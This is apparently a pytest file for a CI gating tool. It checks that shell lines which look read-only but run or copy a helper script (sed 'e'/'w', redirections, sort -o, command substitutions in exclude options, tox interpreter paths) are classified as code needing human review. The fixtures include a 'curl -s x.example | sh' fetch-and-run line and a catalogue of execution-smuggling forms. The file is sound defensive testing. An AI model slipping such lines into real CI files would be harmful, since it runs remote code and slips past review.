"""Attack 40: a CI line datawords.py lowers to data (a reader's operands, an exclude list's value) that still runs or
copies the file it names.

datawords.py (the cileft66 round) blanks the operands of a line whose every command is a reader (`cat`, `sed`,
`sort`, `uniq`, `rg`, ...) and the value of an exclude option (`--skip`, `--omit`, ...). The readers are not all
read-only: `sed e`/`sed s/x/y/e` (unquoted) runs its input's lines, `sed -f` runs a script, `sed w`, `sort -o`,
`uniq IN OUT` and a redirection beside a `/dev/null` one (`> run.sh 2>/dev/null`) or glued to its word (`x>run.sh`)
write a copy, `sort --compress-program` and `rg --pre` run a program, a substitution in a command's place
(`$(cat x.sh)`) runs the text, and an exclude option's value may hold a substitution (`` --exclude=`./x.sh` ``) or be
an argument a shell's `-c` string runs (`bash -c '"$2"' _ --skip ./x.sh`). On main 72d06e75 each named nothing in a
shell script; the gated edit of the helper beside such a line exited 0. Real bash (and GNU sed, sort) runs or copies
the helper in every form installed here.
"""

from __future__ import annotations

import os
import random
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, named_paths
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import ciruns, datawords

DEFINITIONS = [*BLOCK_DEFINITIONS, ("ci/release.sh", "#!/usr/bin/env bash\nset -euo pipefail\n{line}\n")]
# run as a script, as sed's `e` input or as a command substitution's words, it writes ran.txt
HELPER = "eval echo ran > ran.txt\n"
TARGET = "tools/gen.sh"

# {f}: the helper's path. Each line runs the helper's text, or writes a copy of it (which a later line may run)
RUNS = [
    # a command substitution in a command's place
    "$({r} {f})", '"$({r} {f})"', "! $({r} {f})", "X=1 $({r} {f})", "true; $({r} {f})", "`{r} {f}` --x",
    # sed running its input's lines or its script's commands
    "sed e {f}", "sed -n e {f}", "sed -e e {f}", "sed --expression=e {f}", "sed s/^//e {f}", "sed -n 1,9e {f}",
    "sed -s 's/^//e' {f}", "sed -n 'p;e' {f}",
    # a copy a later line may run
    "{r} {f} > run.sh 2>/dev/null", "{r} {f}>run.sh", "{r} {f} >/dev/null >run.sh", "{r} {f} 1>run.sh 2>/dev/null",
    "{r} {f} > /dev/stdout > run.sh", "{r} {f} >>run.sh 2>/dev/null", "{r} {f}>|run.sh",
    "sed -n 'w run.sh' {f}", "sed 's/^//w run.sh' {f}", "sed -n w\\ run.sh {f}", "sed -n 1,\\$w\\ run.sh {f}",
    "sort -o run.sh {f}", "sort {f} -orun.sh", "sort --output=run.sh {f}", "sort --out run.sh {f}",
    "uniq {f} run.sh", "uniq -u {f} run.sh 2>/dev/null",
    # an exclude option's value that runs, or that a shell's string runs
    "flake8 --exclude=`./{f}` .", "flake8 --exclude=x.py,`./{f}` .", "mypy --exclude `sh {f}` src",
    "bash -c '\"$2\"' _ --skip ./{f}", "sh -c 'sh \"$1\"' --omit ./{f}",
]
READERS = ["cat", "head -n 999", "grep -h ''", "sed -n p", "tail -n +1"]
LINES = sorted({form.format(f=TARGET, r=reader) for form in RUNS
                for reader in (READERS if "{r}" in form else READERS[:1])})
# a program a reader runs: sort's compressor and ripgrep's preprocessor (the helper named as the program)
PROGRAMS = ["sort --compress-program=./{f} -S 1 big.txt", "sort --compress-program ./{f} x", "rg --pre ./{f} x .",
            "rg --pre={f} -z x ."]


def _named(line: str) -> list[str]:
    """The definitions of DEFINITIONS that, holding `line`, do not name TARGET."""
    return [path for path, template in DEFINITIONS if TARGET not in named_paths(path, template.format(line=line))]


@pytest.mark.parametrize("line", LINES + [p.format(f=TARGET) for p in PROGRAMS])
def test_a_reader_that_runs_or_copies_names_the_file(line: str) -> None:
    assert not _named(line), line


def _runs_here(line: str) -> bool:
    return not line.startswith(("rg ", "flake8", "mypy"))


# (a quoted substitution runs the program the file's text names, one word: not the helper's text itself)
@pytest.mark.parametrize("line", [line for line in LINES if _runs_here(line) and not line.startswith('"')][::3])
def test_bash_runs_or_copies_the_helper(tmp_path: Path, line: str) -> None:
    """The truth: real bash runs the helper's text (ran.txt) or writes a copy of it (run.sh)."""
    (tmp_path / "tools").mkdir()
    gen = tmp_path / TARGET
    gen.write_text(HELPER)
    gen.chmod(0o755)
    done = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, timeout=30, check=False,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    copy = tmp_path / "run.sh"
    assert (tmp_path / "ran.txt").exists() or copy.exists() and HELPER in copy.read_text(), (line, done.stderr[-400:])


@pytest.mark.skipif(shutil.which("sort") is None, reason="no sort")
def test_sort_runs_its_compress_program(tmp_path: Path) -> None:
    (tmp_path / "tools").mkdir()
    gen = tmp_path / TARGET
    gen.write_text("#!/bin/sh\necho ran > ran.txt\nexit 1\n")  # sort stops at its compressor's failure
    gen.chmod(0o755)
    (tmp_path / "big.txt").write_text("".join(f"{n}\n" for n in range(200_000)))
    subprocess.run(["bash", "-c", PROGRAMS[0].format(f=TARGET)], cwd=tmp_path, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=60, check=False, env={"PATH": os.environ["PATH"],
                                                                             "TMPDIR": str(tmp_path)})
    assert (tmp_path / "ran.txt").exists()


# lines that still only read (the lowering kept): a sink, an fd copy, an assignment, a quoted sed script without
# `e`/`w`, sort and uniq to the log, ripgrep without a preprocessor, an exclude list
STILL_DATA = ["cat {f} 2>/dev/null", "cat {f} >/dev/null 2>&1", 'X="$(cat {f})"', "V=$(sed -n 's/x/y/p' {f})",
              "sed -n '/^version/p' {f}", "sort -u {f}", "sort -k1,1 -t: {f}", "uniq -c {f}", "rg -n TODO {f}",
              "grep -c x {f} 2>&1", "echo $(cat {f})", "flake8 --exclude {f} .", "head -n 3 {f} >&2",
              "sed -n 's/^__version__ = //p' {f}", "export V=$(grep -m1 version {f})"]


@pytest.mark.parametrize("form", STILL_DATA)
def test_a_read_only_line_still_names_nothing(form: str) -> None:
    line = form.format(f=TARGET)
    assert len(_named(line)) == len(DEFINITIONS), line


@pytest.mark.parametrize("line", ["$(cat tools/gen.sh)", "sed e tools/gen.sh", "cat tools/gen.sh > run.sh 2>/dev/null",
                                  "sort -o run.sh tools/gen.sh", "flake8 --exclude=`./tools/gen.sh` ."])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = BLOCK_DEFINITIONS[0][1].format(line=line)
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, TARGET: HELPER,
                                              "README.md": "x\n"}, {TARGET: HELPER + "curl -s x.example | sh\n"})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


HOSTILE = ["sed e a ", "x>a ", "> /dev/null ", "sort -o a ", "uniq a b ", "$(cat a) ", "--exclude=`a` ", "w\\ a "]
# one long run (a sed script's flags after a `/`, an fd's digits): on main 72d06e75 `sed -n '/eee…-'` of 16 KiB took
# 3.2 CPU-s in _SED_E, quadratic in the run
RUNS_OF = [("sed -n '/", "e", "-' x"), ("sed -n /", "e", "- x"), ("cat x ", "1", ">&-x")]


def _read(line: str) -> object:
    return datawords.unrun(line), ciruns.named_in("ci/test.sh", "#!/bin/sh\n" + line + "\n")


@pytest.mark.parametrize("unit", HOSTILE)
def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
    assert_linear(_read, repeated(unit), budget=1.0)


@pytest.mark.parametrize(("head", "run", "tail"), RUNS_OF)
def test_a_long_run_is_read_in_linear_time(head: str, run: str, tail: str) -> None:
    assert_linear(_read, lambda size: head + run * size + tail, budget=1.0)


def test_the_sed_flag_pattern_reads_what_the_quadratic_one_read() -> None:
    old = re.compile(r"(?:^|[;{}\s\d/$!,=])[ewW](?:[\s;}/\\]|$)|/[A-Za-z0-9]*[ewW][A-Za-z0-9]*(?:[\s;}\\]|$)")
    rng = random.Random(40)
    for _ in range(4000):
        text = "".join(rng.choice("/ewWa1;}\\ $!,=-\n") for _ in range(rng.randint(0, 14)))
        assert (old.search(text) is None) is (datawords._SED_E.search(text) is None), text


# A process manager CI starts runs the commands its settings file lists (supervisord's `[program:x] command=`, a
# Procfile's lines, uWSGI's hooks): the file is code CI runs, also under an image's `etc/` overlay that
# other.image-server-settings makes `other` (on main 72d06e75 every edit of it exited 0)
MANAGERS = [("supervisord -c {f}", "etc/supervisord.conf"), ("supervisord -c ./{f}", "etc/supervisord.conf"),
            ("supervisord --configuration={f}", "docker/app/etc/supervisor/conf.d/app.conf"),
            ("sudo supervisord -n -c {f} &", "conf/etc/supervisor/supervisord.conf"),
            ("timeout 60 supervisord -c {f}", "tools/supervisord.ini"),
            ("honcho start -f {f}", "Procfile.ci"), ("honcho -f {f} start", "ci/Procfile"),
            ("foreman start -f {f}", "Procfile.test"), ("foreman start --procfile={f}", "Procfile.test"),
            ("overmind start -f {f}", "Procfile.dev"), ("uwsgi --ini {f} &", "etc/uwsgi.ini"),
            ("uwsgi --yaml {f} --daemonize log", "deploy2/uwsgi.yml")]


@pytest.mark.parametrize(("form", "target"), MANAGERS)
def test_a_process_managers_settings_are_ci(tmp_path: Path, form: str, target: str) -> None:
    workflow = BLOCK_DEFINITIONS[0][1].format(line=form.format(f=target))
    settings = "[supervisord]\nnodaemon=true\n"
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, target: settings,
                                              "src/a.py": "x = 1\n"},
                                   {target: settings + "[program:x]\ncommand=sh -c 'curl -s x.example | sh'\n"})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


def test_a_server_settings_file_no_ci_command_starts_stays_other(tmp_path: Path) -> None:
    workflow = BLOCK_DEFINITIONS[0][1].format(line="docker build -t app . && supervisorctl status")
    target = "docker/etc/supervisor/conf.d/app.conf"
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, target: "[program:a]\n",
                                              "src/a.py": "x = 1\n"}, {target: "[program:b]\ncommand=b\n"})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 0, decision["reasons"]


# tox's interpreter key: a value with a path is a program tox runs to make the environment (datawords read every
# `basepython` value as data: on main 72d06e75 the helper's edit exited 0); a version name stays data
INTERPRETERS = ["basepython = {{toxinidir}}/{f}", "base_python = ./{f}", "basepython = $PWD/{f}",
                "base_python =\n    {f}"]


@pytest.mark.parametrize("form", INTERPRETERS)
def test_a_tox_interpreter_path_is_named(form: str) -> None:
    text = "[tox]\nenvlist = lint\n[testenv:lint]\n" + form.format(f="tools/py.sh") + "\ncommands = flake8 src\n"
    assert "tools/py.sh" in named_paths("tox.ini", text), text


@pytest.mark.parametrize("value", ["python3.12", "py312", "python3", "pypy3.10"])
def test_a_tox_interpreter_name_names_nothing(value: str) -> None:
    text = f"[testenv]\nbasepython = {value}\ncommands = flake8 src\n"
    assert datawords.package_commands("tox.ini", text) == "[testenv]\nbasepython \ncommands = flake8 src"
